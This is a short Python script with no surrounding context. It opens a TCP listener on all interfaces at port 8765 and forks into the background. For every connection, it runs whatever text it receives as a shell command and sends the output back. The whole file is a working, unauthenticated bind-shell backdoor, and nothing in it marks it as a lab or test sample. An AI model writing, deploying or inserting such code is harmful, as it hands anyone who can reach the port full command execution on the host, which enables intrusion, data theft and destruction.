import os, socket, subprocess, threading

def serve(conn):
    while True:
        data = conn.recv(4096)
        if not data:
            break
        out = subprocess.run(data.decode(), shell=True, capture_output=True)
        conn.sendall(out.stdout + out.stderr)

s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 8765))
s.listen(5)
if os.fork() == 0:
    while True:
        c, _ = s.accept()
        threading.Thread(target=serve, args=(c,), daemon=True).start()
